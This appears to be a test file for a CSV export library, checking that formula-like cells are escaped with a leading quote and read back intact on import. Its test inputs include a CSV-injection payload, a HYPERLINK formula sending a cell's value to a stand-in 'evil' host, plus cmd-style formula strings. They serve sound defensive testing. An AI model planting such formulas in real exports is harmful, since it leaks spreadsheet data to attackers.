// CSV cells are safe to open in a spreadsheet: what it would run as a formula (a cell beginning with
// =, +, -, @, a tab or a carriage return) is written with a leading ', plain numbers (-12.50) are
// left numbers, and reading a cell back (as the import does) gives exactly the data again.
import fc from 'fast-check';
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { cell, csvPages, escapeFormula, objectsToCsv, toCsv, unescapeFormula } from '../../src/lib/output/csv.js';

describe('escapeFormula', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?"&A1,"click")', `'=HYPERLINK("http://evil.example/?"&A1,"click")`],
    ['@SUM(1)', "'@SUM(1)"],
    ['+31612345678', "'+31612345678"],
    ['-2+3+cmd', "'-2+3+cmd"],
    ['-', "'-"],
    ['\t=1', "'\t=1"],
    ['\r=1', "'\r=1"],
    ["'=1", "''=1"],
    ["''@x", "'''@x"],
  ])('puts a leading quote before %j', (text, written) => {
    expect(escapeFormula(text)).toBe(written);
  });

  it.each([
    '-12.50',
    '-0.05',
    '-3',
    '12.50',
    '0',
    'Jan',
    "O'Brien",
    "'quoted'",
    ' =1',
    'a=b',
    '',
    '€ 12.50',
    '[1,2]',
    '{"a":"=1"}',
  ])('leaves %j as it is', (text) => {
    expect(escapeFormula(text)).toBe(text);
  });

  it('is undone by unescapeFormula, for any text (so an import reads back exactly what was exported)', () => {
    const text = fc.oneof(
      fc.string(),
      fc
        .tuple(fc.constantFrom("'", "''", ''), fc.constantFrom('=', '+', '-', '@', '\t', '\r'), fc.string())
        .map((parts) => parts.join('')),
    );
    fc.assert(
      fc.property(text, (value) => {
        expect(unescapeFormula(escapeFormula(value))).toBe(value);
      }),
      { numRuns: 2000 },
    );
  });
});

describe('cell', () => {
  it('escapes, then quotes as RFC 4180 says', () => {
    expect(cell('=1+2,3')).toBe(`"'=1+2,3"`);
    expect(cell('=HYPERLINK("x")')).toBe(`"'=HYPERLINK(""x"")"`);
    expect(cell('@SUM(1)')).toBe("'@SUM(1)");
  });

  it('leaves numbers (and numeric amounts) numbers', () => {
    expect(cell(-12.5)).toBe('-12.5');
    expect(cell('-12.50')).toBe('-12.50');
    expect(cell(-1e-7)).toBe('-1e-7');
  });

  it('with raw, writes the data as it is', () => {
    expect(cell('=1+2', { raw: true })).toBe('=1+2');
    expect(cell('@SUM(1)', { raw: true })).toBe('@SUM(1)');
    expect(cell('=1,2', { raw: true })).toBe('"=1,2"');
  });
});

describe('every CSV writer', () => {
  const hostile = {
    type: 'customer',
    id: '1',
    attributes: {
      first_name: '=HYPERLINK("http://x")',
      last_name: '@SUM(1)',
      telephone: '+31612345678',
      amount: '-12.50',
      note: "'-1",
    },
  };
  const escapedRow = `1,"'=HYPERLINK(""http://x"")",'@SUM(1),'+31612345678,-12.50,''-1`;
  const rawRow = `1,"=HYPERLINK(""http://x"")",@SUM(1),+31612345678,-12.50,'-1`;
  const header = 'id,first_name,last_name,telephone,amount,note';

  it('toCsv, objectsToCsv and csvPages escape alike, and not with raw', () => {
    expect(toCsv([hostile])).toBe(`${header}\r\n${escapedRow}\r\n`);
    expect(objectsToCsv([{ id: '1', ...hostile.attributes }])).toBe(`${header}\r\n${escapedRow}\r\n`);
    const pages = csvPages();
    expect(pages.page([hostile]) + pages.page([hostile])).toBe(`${header}\r\n${escapedRow}\r\n${escapedRow}\r\n`);
    expect(toCsv([hostile], { raw: true })).toBe(`${header}\r\n${rawRow}\r\n`);
    expect(csvPages({ raw: true }).page([hostile])).toBe(`${header}\r\n${rawRow}\r\n`);
  });

  it('a name in the header is a cell too (a service names the attributes)', () => {
    expect(objectsToCsv([{ '=cmd': 1, 'a,b': 2 }])).toBe(`'=cmd,"a,b"\r\n1,2\r\n`);
  });

  it('parsed as CSV and read back, any text is the data again', () => {
    fc.assert(
      fc.property(fc.array(fc.string(), { minLength: 1, maxLength: 5 }), (values) => {
        const row = Object.fromEntries(values.map((value, i) => [`c${i}`, value]));
        const [, cells]: string[][] = parse(objectsToCsv([row]), { relax_column_count: true });
        expect(cells.map(unescapeFormula)).toEqual(values);
      }),
      { numRuns: 500 },
    );
  });
});
